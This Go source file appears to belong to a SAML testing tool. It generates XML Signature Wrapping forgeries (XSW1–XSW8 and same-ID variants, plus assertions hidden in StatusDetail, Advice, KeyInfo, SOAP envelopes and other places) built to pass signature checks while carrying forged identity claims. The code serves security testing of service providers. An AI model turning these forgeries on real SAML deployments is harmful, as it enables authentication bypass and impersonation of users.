package samlprovider

import "github.com/beevik/etree"

// wrapping are the eight ways of signature wrapping, numbered as in the literature (Somorovsky and others, "On Breaking
// SAML") and in SAML Raider; those with an assertion also with the identifier kept.
func wrapping() []Attack {
	list := []Attack{
		responseWrap("xsw1", "structure", func(doc *etree.Document, sig, original *etree.Element) { sig.AddChild(original) }),
		responseWrap("xsw2", "structure", func(doc *etree.Document, sig, original *etree.Element) {
			doc.Root().InsertChildAt(sig.Index(), original)
		}),
	}
	for _, kept := range []bool{false, true} {
		suffix := ""
		if kept {
			suffix = "-same-id"
		}
		list = append(list,
			assertionWrap("xsw3"+suffix, "assertions", kept, func(root, evil, signed *etree.Element) {
				evil.RemoveChild(evil.SelectElement("Signature"))
				root.InsertChildAt(signed.Index(), evil)
			}),
			assertionWrap("xsw4"+suffix, "structure", kept, func(root, evil, signed *etree.Element) {
				evil.RemoveChild(evil.SelectElement("Signature"))
				root.RemoveChild(signed)
				root.AddChild(evil)
				evil.AddChild(signed)
			}),
			assertionWrap("xsw5"+suffix, "assertions", kept, func(root, evil, signed *etree.Element) {
				root.RemoveChild(signed)
				root.AddChild(evil)
				root.AddChild(without(signed))
			}),
			assertionWrap("xsw6"+suffix, "structure", kept, func(root, evil, signed *etree.Element) {
				root.RemoveChild(signed)
				root.AddChild(evil)
				evil.SelectElement("Signature").AddChild(without(signed))
			}),
			assertionWrap("xsw7"+suffix, "structure", kept, func(root, evil, signed *etree.Element) {
				evil.RemoveChild(evil.SelectElement("Signature"))
				extensions := etree.NewElement("samlp:Extensions")
				root.InsertChildAt(signed.Index(), extensions)
				extensions.AddChild(evil)
			}),
			assertionWrap("xsw8"+suffix, "structure", kept, func(root, evil, signed *etree.Element) {
				root.RemoveChild(signed)
				root.AddChild(evil)
				evil.SelectElement("Signature").CreateElement("ds:Object").AddChild(without(signed))
			}),
		)
	}
	return append(list, hiding()...)
}

// responseWrap keeps the signed response as original inside a forged one, which carries its signature.
func responseWrap(name, reason string, put func(doc *etree.Document, sig, original *etree.Element)) Attack {
	return Attack{name, reason, func(p *Provider, a Answer) []byte {
		a.Shape = Shapes()[1] // the response is signed
		doc := p.Signed(a)
		root := doc.Root()
		original := without(root)
		root.CreateAttr("ID", "_forged-response")
		assertionOf(doc).CreateAttr("ID", "_forged-assertion")
		forge(root)
		put(doc, root.SelectElement("Signature"), original)
		return Bytes(doc)
	}}
}

// assertionWrap gives put the signed assertion and a forged copy of it.
func assertionWrap(name, reason string, kept bool, put func(root, evil, signed *etree.Element)) Attack {
	return tree(name, reason, func(doc *etree.Document) {
		signed := assertionOf(doc)
		evil := signed.Copy()
		forge(evil)
		if !kept {
			evil.CreateAttr("ID", "_forged-assertion")
		}
		put(doc.Root(), evil, signed)
	})
}

// hiding are other places for the assertion that was signed.
func hiding() []Attack {
	evil := func(place func(root, forged, signed *etree.Element)) func(doc *etree.Document) {
		return func(doc *etree.Document) {
			signed := assertionOf(doc)
			forged := without(signed)
			forged.CreateAttr("ID", "_forged-assertion")
			forge(forged)
			doc.Root().RemoveChild(signed)
			doc.Root().AddChild(forged)
			place(doc.Root(), forged, signed)
		}
	}
	return []Attack{
		tree("wrap-status-detail", "structure", evil(func(root, _, signed *etree.Element) {
			root.SelectElement("Status").CreateElement("samlp:StatusDetail").AddChild(signed)
		})),
		tree("wrap-advice", "structure", evil(func(_, forged, signed *etree.Element) { forged.CreateElement("saml:Advice").AddChild(signed) })),
		tree("wrap-attribute-value", "structure", evil(func(_, forged, signed *etree.Element) {
			forged.FindElement(".//AttributeValue").AddChild(signed)
		})),
		tree("wrap-confirmation-data", "structure", evil(func(_, forged, signed *etree.Element) {
			forged.FindElement(".//SubjectConfirmationData").AddChild(signed)
		})),
		tree("wrap-key-info", "structure", func(doc *etree.Document) {
			signed := assertionOf(doc)
			original := without(signed)
			signed.CreateAttr("ID", "_forged-assertion")
			forge(signed)
			signed.FindElement("./Signature/KeyInfo").AddChild(original)
		}),
		tree("wrap-other-namespace", "structure", evil(func(root, _, signed *etree.Element) {
			box := root.CreateElement("x:Box")
			box.CreateAttr("xmlns:x", "urn:example:box")
			box.AddChild(signed)
		})),
		tree("wrap-soap", "structure", func(doc *etree.Document) {
			root := doc.Root()
			box := etree.NewElement("soap:Envelope")
			box.CreateAttr("xmlns:soap", "http://schemas.xmlsoap.org/soap/envelope/")
			doc.SetRoot(box)
			box.AddChild(root)
		}),
	}
}
